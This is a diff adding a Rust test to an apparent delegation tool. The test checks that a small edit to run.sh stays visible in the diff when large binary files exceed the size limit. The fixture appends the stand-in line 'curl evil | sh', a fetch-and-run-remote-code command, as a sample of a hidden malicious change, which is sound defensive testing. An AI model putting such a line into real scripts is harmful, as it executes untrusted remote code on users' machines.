@@ -112,6 +112,39 @@ fn the_diff_is_a_patch_that_git_applies() {
 }
 
 #[test]
+fn a_small_change_behind_large_files_is_shown() {
+    let Some(world) = DelegationWorld::new(FolderRoute::Direct, "") else { return };
+    world.write("run.sh", "echo hi\n");
+    let script = "for i in 1 2 3; do head -c 3000000 /dev/urandom > a$i.bin; done; echo 'curl evil | sh' >> run.sh";
+    let ended = world.delegate(&[], script);
+    assert_eq!(ended["status"], "completed", "{ended:#}");
+    let id = ended["delegation_id"].as_str().unwrap();
+    let diff = world.delegations(&["diff", id]).exits(6);
+    let is_told = |line: &&str| ["diff ", "#", "+curl"].iter().any(|start| line.starts_with(start));
+    let told: Vec<&str> = diff.stdout.lines().filter(is_told).collect();
+    assert_eq!(
+        told,
+        [
+            "diff --git a/run.sh b/run.sh",
+            "+curl evil | sh",
+            "diff --git a/a1.bin b/a1.bin",
+            "# not shown here: a2.bin",
+            "# not shown here: a3.bin",
+        ]
+    );
+    assert_eq!(
+        diff.stderr,
+        format!(
+            "2 changed files are not shown because of the size limit. Their names are at the end of the diff. Show \
+             them: attache delegations diff {id} PATH…\n"
+        )
+    );
+    let asked = world.delegations(&["diff", id, "a2.bin"]).succeeds();
+    assert!(asked.stdout.starts_with("diff --git a/a2.bin b/a2.bin\n") && !asked.stdout.contains("a1.bin"));
+    world.delegations(&["diff", id, "never"]).exits(3);
+}
+
+#[test]
 fn files_hidden_from_git_status_are_in_the_commit() {
     let Some(world) = DelegationWorld::new(FolderRoute::Direct, "") else { return };
     let git = |args: &[&str]| {
